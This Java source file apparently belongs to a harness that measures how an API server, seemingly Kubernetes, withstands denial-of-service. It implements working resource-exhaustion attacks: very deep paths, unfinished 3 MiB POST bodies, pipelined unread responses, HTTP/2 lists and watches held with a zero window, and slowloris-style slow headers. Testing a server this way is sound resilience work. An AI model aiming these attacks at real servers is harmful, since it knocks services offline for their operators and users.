package dev.navarch.attacks.measuring;

import static java.nio.charset.StandardCharsets.US_ASCII;

import dev.navarch.attacks.client.PlainClient;
import dev.navarch.attacks.client.RawConnection;
import dev.navarch.attacks.client.RawHttp2;
import dev.navarch.attacks.client.Target;
import java.io.IOException;
import java.time.Duration;
import java.util.Map;

/** Attacks by what is sent slowly, not finished, or not read. */
enum NetworkAttack implements Attack {
  DEEP_PATHS("4 x GET /openapi/ + 250,000 segments") {
    @Override
    void begin(Target target, String token, HeldConnections held, long end) throws IOException {
      String request = get("/openapi/" + "a/".repeat(250_000), token);
      for (int i = 0; i < 4; i++) {
        RawConnection connection = held.hold(RawConnection.open(target));
        held.start(() -> {
          while (System.nanoTime() < end) {
            connection.send(request);
            var unused = connection.receive();
          }
        });
      }
    }
  },
  UNFINISHED_BODIES("350 anonymous POSTs of 3 MiB, not finished") {
    @Override
    void begin(Target target, String token, HeldConnections held, long end) throws IOException {
      for (int i = 0; i < 350; i++) {
        unfinished(target, "", held);
      }
    }
  },
  UNFINISHED_BODIES_OF_A_USER("350 POSTs of 3 MiB of one user, not finished") {
    @Override
    void begin(Target target, String token, HeldConnections held, long end) throws IOException {
      for (int i = 0; i < 350; i++) {
        unfinished(target, "Authorization: Bearer " + token + "\r\n", held);
      }
    }
  },
  PIPELINED_UNREAD("pipelined anonymous GETs, responses not read") {
    @Override
    void begin(Target target, String token, HeldConnections held, long end) throws IOException {
      RawConnection connection = held.hold(RawConnection.open(target));
      byte[] requests = "GET /version HTTP/1.1\r\nHost: a\r\n\r\n".repeat(64).getBytes(US_ASCII);
      held.start(() -> {
        for (int i = 0; i < 100_000 && System.nanoTime() < end; i++) {
          connection.send(requests);
        }
      });
    }
  },
  UNREAD_TABLES("900 table lists of 3,000 objects, window 0") {
    @Override
    public void prepare(PlainClient admin) {
      Objects.many(admin, 3000);
    }

    @Override
    void begin(Target target, String token, HeldConnections held, long end) throws IOException {
      unread(
          target,
          held,
          900,
          Objects.MANY,
          Map.of(
              "authorization",
              "Bearer " + token,
              "accept",
              "application/json;as=Table;g=meta.k8s.io;v=v1"));
    }
  },
  UNREAD_LISTS("450 lists of 10.8 MB, window 0") {
    @Override
    public void prepare(PlainClient admin) {
      Objects.large(admin, 12);
    }

    @Override
    void begin(Target target, String token, HeldConnections held, long end) throws IOException {
      unread(target, held, 450, Objects.LARGE, Map.of("authorization", "Bearer " + token));
    }
  },
  UNREAD_WATCHES("320 watches of 10.8 MB, window 0") {
    @Override
    public void prepare(PlainClient admin) {
      Objects.large(admin, 12);
    }

    @Override
    void begin(Target target, String token, HeldConnections held, long end) throws IOException {
      unread(
          target,
          held,
          320,
          Objects.LARGE + "?watch=true&resourceVersion=0",
          Map.of("authorization", "Bearer " + token));
    }
  },
  SLOW_HEADERS("30 connections, a byte of a header each 2 s") {
    @Override
    void begin(Target target, String token, HeldConnections held, long end) throws IOException {
      for (int i = 0; i < 30; i++) {
        RawConnection connection = held.hold(RawConnection.open(target));
        connection.send("GET /version HTTP/1.1\r\nHost: a\r\nX-Slow: ");
        held.start(() -> {
          while (System.nanoTime() < end) {
            connection.send("x");
            Thread.sleep(2000);
          }
        });
      }
    }
  };

  private final String title;

  NetworkAttack(String title) {
    this.title = title;
  }

  @Override
  public String toString() {
    return title;
  }

  @Override
  public void run(Target target, String token, Duration time)
      throws IOException, InterruptedException {
    try (HeldConnections held = new HeldConnections()) {
      long end = System.nanoTime() + time.toNanos();
      held.start(() -> begin(target, token, held, end));
      Thread.sleep(time.toMillis());
    }
  }

  abstract void begin(Target target, String token, HeldConnections held, long end)
      throws IOException;

  private static String get(String path, String token) {
    return "GET %s HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer %s\r\n\r\n".formatted(path, token);
  }

  private static void unfinished(Target target, String credentials, HeldConnections held)
      throws IOException {
    RawConnection connection = held.hold(RawConnection.open(target));
    held.start(() -> {
      connection.send(
          "POST /api/v1/namespaces/default/configmaps HTTP/1.1\r\nHost: a\r\n%sContent-Type: application/json\r\nContent-Length: %d\r\n\r\n"
              .formatted(credentials, 3 << 20));
      connection.send(new byte[(3 << 20) - 1]);
    });
  }

  private static void unread(
      Target target, HeldConnections held, int count, String path, Map<String, String> fields)
      throws IOException {
    RawHttp2 connection = held.hold(RawHttp2.open(target, 0));
    for (int i = 0; i < count; i++) {
      int unused = connection.request("GET", path, fields, true);
    }
    connection.flush();
    held.start(() -> {
      while (true) {
        var unused = connection.next();
      }
    });
  }
}
